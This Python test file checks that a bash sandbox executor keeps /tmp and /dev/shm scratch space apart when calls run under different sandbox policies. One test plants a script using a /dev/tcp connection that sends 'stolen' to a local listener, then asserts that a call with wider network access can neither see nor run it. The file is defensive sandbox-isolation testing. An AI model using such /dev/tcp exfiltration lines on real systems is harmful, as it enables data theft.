"""Scratch space is shared only within a trust domain (issue 22, item 3), on both backends.

An isolated read-only call plants a script in the private /tmp (and /dev/shm); a later call
the user approved for the host network must not find it (the script would reach a host
listener), while a call with exactly the first call's policy does (multi-step work).
"""

from __future__ import annotations

import socket
from pathlib import Path

from bash_sandbox import SandboxBashExecutor
from bash_sandbox.trust_domain import domain_key
from bash_seam import BashExecRequest, BashRunResult
from policies import NetworkMode, SandboxMode, SandboxPolicy
from tests.sandbox.conftest import ExecutorFactory


async def _run(
    ex: SandboxBashExecutor, command: str, workdir: Path, policy: SandboxPolicy | None = None
) -> BashRunResult:
    request = BashExecRequest(command=command, workdir=str(workdir), sandbox_policy=policy)
    return await ex.run(ex.resolve(request))


def _policy(workspace: Path, **kw: object) -> SandboxPolicy:
    return SandboxPolicy(mode=SandboxMode.READ_ONLY, workspace_root=str(workspace), **kw)  # type: ignore[arg-type]


async def test_wider_call_never_sees_what_a_narrower_call_left(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        ex = make_executor()
        narrow = _policy(workspace)
        plant = (
            f"printf 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo stolen >&3\\n' > /tmp/x.sh; "
            "echo shm > /dev/shm/x; ls /tmp/x.sh /dev/shm/x"
        )
        first = await _run(ex, plant, workspace, narrow)
        assert first.exit_code == 0, first.stderr
        wide = _policy(workspace, network=NetworkMode.HOST)
        check = "bash /tmp/x.sh || echo NO-SCRIPT; cat /dev/shm/x || echo NO-SHM; ls -A /tmp"
        second = await _run(ex, check, workspace, wide)
        assert "NO-SCRIPT" in second.stdout.text and "NO-SHM" in second.stdout.text, second.stderr
        assert "x.sh" not in second.stdout.text
        # The host listener saw nothing: the planted script never ran in the wider call.
        try:
            conn, _ = listener.accept()
        except BlockingIOError:
            conn = None
        assert conn is None
        # The same policy again finds its files: ordinary multi-step work keeps working.
        third = await _run(ex, "cat /tmp/x.sh /dev/shm/x", workspace, narrow)
        assert third.exit_code == 0, third.stderr
        assert "stolen" in third.stdout.text and "shm" in third.stdout.text
    finally:
        listener.close()


async def test_a_narrower_call_after_a_wider_one_gets_its_own_scratch(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    ex = make_executor()
    wide = SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(workspace))
    first = await _run(ex, "echo fetched > /tmp/y; echo ok > done.txt", workspace, wide)
    assert first.exit_code == 0, first.stderr
    assert (workspace / "done.txt").read_text() == "ok\n"
    second = await _run(ex, "cat /tmp/y", workspace, _policy(workspace))
    assert second.exit_code != 0 and "fetched" not in second.stdout.text
    # The executor's default policy (no per-call policy) keeps one /tmp across calls.
    assert (await _run(ex, "echo a > /tmp/z", workspace)).exit_code == 0
    assert (await _run(ex, "cat /tmp/z", workspace)).stdout.text == "a\n"


def test_domain_key_is_exact_and_order_free(tmp_path: Path) -> None:
    base = _policy(tmp_path)
    assert domain_key(base) == domain_key(_policy(tmp_path))
    wider = [
        _policy(tmp_path, network=NetworkMode.HOST),
        _policy(tmp_path, allow_domains=("example.com",)),
        _policy(tmp_path, allow_unix_sockets=("/run/x.sock",)),
        _policy(tmp_path, deny_read=()),
        SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(tmp_path)),
    ]
    assert len({domain_key(p) for p in [base, *wider]}) == len(wider) + 1
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    ww = SandboxPolicy(mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(a))
    one = ww.model_copy(update={"writable_roots": (str(b),)})
    other = SandboxPolicy(
        mode=SandboxMode.WORKSPACE_WRITE, workspace_root=str(b), writable_roots=(str(a),)
    )
    assert domain_key(one) == domain_key(other) != domain_key(ww)
